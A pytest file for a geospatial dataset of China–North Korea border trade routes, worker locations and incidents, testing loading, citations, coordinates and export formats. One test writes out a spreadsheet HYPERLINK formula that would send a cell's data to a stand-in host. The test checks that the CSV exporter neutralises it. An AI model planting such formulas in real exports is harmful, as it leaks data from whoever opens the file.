"""The curated dataset itself, loading it, and exporting exactly what is shown."""

from __future__ import annotations

import csv
import io
import json

import pytest
from shapely.geometry import Point

from geo.events.dataset import DatasetError, to_feature_collection, to_geojson
from geo.io.csv import to_csv
from geo.io.events_file import load_events
from geo.reference.places import geometry_for
from tests.conftest import EVENTS_PATH, ROOT
from tests.test_curated_dataset import FOUNDING_IDS

SEED = "seeds/000_c849781cc78fe4c5.txt"


def test_the_curated_dataset_loads_in_wgs84_with_one_row_per_feature(events, collection):
    assert events.crs.to_string() == "EPSG:4326"
    assert len(events) == len(collection["features"])
    assert list(events.index) == list(events["id"])


def test_every_feature_cites_its_sources_and_the_founding_articles_events_cite_the_seed_in_the_repo(events):
    for sources in events["sources"]:
        assert sources and all(s["publisher"] and s["title"] and s["published"] for s in sources)
        assert all(s["ref"].startswith(("http://", "https://")) or (ROOT / s["ref"]).is_file() for s in sources)
    citing = {event_id for event_id, sources in events["sources"].items() if any(s["ref"] == SEED for s in sources)}
    assert citing == FOUNDING_IDS  # the founding article's events keep it; later events cite their own pages
    assert (ROOT / SEED).is_file()
    assert "Asia Economy Reporter Jang Hee-jun" in (ROOT / SEED).read_text(encoding="utf-8")


def test_the_five_seed_places_are_on_the_map(events, places):
    seed_places = set(places[places["seed_place"]].index)
    assert seed_places == {"Dandong", "Hunchun", "Rason", "Tumen", "Shanghai"}
    used = set(events["place"]) | {name for via in events["via"] for line in via for name in line}
    assert seed_places <= used


def test_every_layer_has_located_events(events):
    located = events[events.geometry.notna()]
    assert set(located["layer"]) == {"trade_routes", "worker_locations", "incidents"}


def test_the_construction_workers_defection_has_no_invented_location(events):
    row = events.loc["defection-construction-workers-winter-2022"]
    assert row.geometry is None and row["location_precision"] == "unknown" and row["place"] == ""


def test_trade_routes_run_through_their_crossing(events, places):
    rail = events.loc["rail-freight-dandong-sinuiju-partial-resumption"].geometry
    road = events.loc["road-freight-rason-hunchun-resumption"].geometry
    assert rail.geom_type == road.geom_type == "LineString"
    assert rail.distance(places.geometry["Sino-Korean Friendship Bridge"]) < 1e-9
    assert road.distance(places.geometry["Tumen River Bridge (Quanhe–Wonjong)"]) < 1e-9


def test_closed_and_resumed_routes_are_distinguished_by_status(events):
    assert events.loc["border-closure-2020-01", "status"] == "closed"
    assert events.loc["road-freight-rason-hunchun-resumption", "status"] == "resumed"
    assert events.loc["rail-freight-dandong-sinuiju-partial-resumption", "status"] == "partially_resumed"


def test_every_coordinate_comes_from_the_places_file(events, places, collection):
    for feature in collection["features"]:
        assert feature["geometry"] == geometry_for(feature["properties"], places), feature["properties"]["id"]


def test_inferred_dates_always_say_how_they_were_inferred(events):
    inferred = events[events["date_inferred"]]
    assert len(inferred) >= 5
    assert inferred["date_note"].map(bool).all()


def test_the_shanghai_disappearance_is_dated_february_2022_by_inference(events):
    row = events.loc["disappearance-shanghai-garment-workers-2022-02"]
    assert (row["date_start"], row["date_end"], row["date_precision"]) == ("2022-02-01", "2022-02-28", "month")
    assert row["date_inferred"] and "February last year" in row["date_note"]


def test_an_invalid_file_raises_with_every_problem_and_loads_nothing(collection, write_json):
    collection["features"][0]["properties"]["layer"] = "nope"
    collection["features"][2]["properties"]["sources"] = []
    with pytest.raises(DatasetError) as caught:
        load_events(write_json(collection))
    assert len(caught.value.problems) == 2


def test_geojson_export_round_trips_the_rows_exactly(events, write_json):
    text = to_geojson(events.iloc[:5])
    again = load_events(write_json(text))
    assert list(again["id"]) == list(events["id"][:5])
    original = json.loads(EVENTS_PATH.read_text(encoding="utf-8"))["features"][:5]
    assert to_feature_collection(again)["features"] == to_feature_collection(events.iloc[:5])["features"]
    assert [f["properties"]["summary"] for f in original] == list(again["summary"])


def test_csv_export_has_one_row_per_shown_event_with_sources_and_coordinates(events):
    shown = events[events["layer"] == "incidents"]
    rows = list(csv.DictReader(io.StringIO(to_csv(shown))))
    assert [r["id"] for r in rows] == list(shown["id"])
    shanghai = next(r for r in rows if r["id"] == "disappearance-shanghai-garment-workers-2022-02")
    point = events.loc["disappearance-shanghai-garment-workers-2022-02"].geometry
    assert Point(float(shanghai["longitude"]), float(shanghai["latitude"])).distance(point) < 1e-6
    assert SEED in shanghai["sources"]
    unlocated = next(r for r in rows if r["id"] == "defection-construction-workers-winter-2022")
    assert unlocated["longitude"] == "" and unlocated["geometry_wkt"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_would_start_a_spreadsheet_formula_is_written_as_text(events, start):
    frame = events.copy()
    frame.loc[frame.index[0], "title"] = f'{start}HYPERLINK("http://x.example/?"&B3, "open")'
    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert rows[0]["title"] == f"'{start}HYPERLINK(\"http://x.example/?\"&B3, \"open\")"
    assert rows[1]["title"] == frame["title"].iloc[1]  # ordinary text unchanged


def test_load_events_and_validate_file_read_geoparquet_by_its_suffix(events, tmp_path):
    import pandas as pd

    from geo.io.events_file import is_parquet, validate_file
    from geo.io.geoparquet import write_events

    for name in ("events.parquet", "EVENTS.PARQUET", "events.geoparquet"):
        write_events(events, tmp_path / name)
        assert is_parquet(tmp_path / name) and validate_file(tmp_path / name) == []
        pd.testing.assert_frame_equal(load_events(tmp_path / name), events)
    assert not is_parquet(EVENTS_PATH)


def test_a_geojson_file_named_parquet_is_one_problem_not_a_traceback(tmp_path):
    from geo.io.events_file import validate_file

    wrong = tmp_path / "events.parquet"
    wrong.write_bytes(EVENTS_PATH.read_bytes())
    [problem] = validate_file(wrong)
    assert str(problem).startswith(f"{wrong}: file: not a readable Parquet file")
    with pytest.raises(DatasetError):
        load_events(wrong)


def test_a_geojson_file_over_the_limit_is_refused_naming_the_command_that_converts_it(tmp_path, monkeypatch):
    from geo.io import events_file

    path = tmp_path / "my events.geojson"
    path.write_bytes(EVENTS_PATH.read_bytes())
    monkeypatch.setattr(events_file, "MAX_FILE_BYTES", 1_000)
    with pytest.raises(DatasetError) as raised:
        load_events(path)
    assert [str(p) for p in raised.value.problems] == [
        f"{path}: file: the file is {path.stat().st_size:,} bytes, over the limit of 1,000 bytes for a GeoJSON events "
        "file; convert it to GeoParquet with `python -m geo convert 'my events.geojson' 'my events.parquet'` and "
        "use that file"]
    assert events_file.validate_file(path) == []  # read feature by feature, whatever its size
